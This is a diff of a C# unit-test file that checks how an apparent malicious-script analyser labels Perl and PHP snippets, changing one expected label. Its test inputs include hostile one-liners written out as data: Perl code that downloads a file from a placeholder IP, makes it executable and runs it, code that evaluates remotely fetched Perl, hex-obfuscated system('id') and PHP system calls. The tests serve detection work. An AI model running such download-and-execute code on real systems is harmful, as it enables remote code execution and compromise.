@@ -10,7 +10,7 @@ public sealed class OtherScriptTests
     [InlineData("perl", "my $o = `id`;", "Interpret sh = id")]
     [InlineData("perl", "my $o = qx{id};", "Interpret sh = id")]
     [InlineData("perl", "eval(pack('H*', '73797374656d2822696422293b'));", "Interpret perl = system(\"id\"); [hex]")]
-    [InlineData("perl", "use LWP::Simple; getstore('http://192.0.2.1/x', '/tmp/x'); chmod 0755, '/tmp/x'; system('/tmp/x');", "Download http://192.0.2.1/x > /tmp/x", "MakeExecutable /tmp/x", "Execute /tmp/x from http://192.0.2.1/x")]
+    [InlineData("perl", "use LWP::Simple; getstore('http://192.0.2.1/x', '/tmp/x'); chmod 0755, '/tmp/x'; system('/tmp/x');", "Download http://192.0.2.1/x > /tmp/x", "MakeExecutable /tmp/x from http://192.0.2.1/x", "Execute /tmp/x from http://192.0.2.1/x")]
     [InlineData("perl", "use LWP::Simple; eval get('http://192.0.2.1/x');", "Download http://192.0.2.1/x", "Interpret perl from http://192.0.2.1/x")]
     [InlineData("perl", "print \"hello\\n\"; my %h = (a => 1); foreach my $k (keys %h) { print $k; }")]
     [InlineData("php", "<?php system('id'); ?>", "Interpret sh = id")]
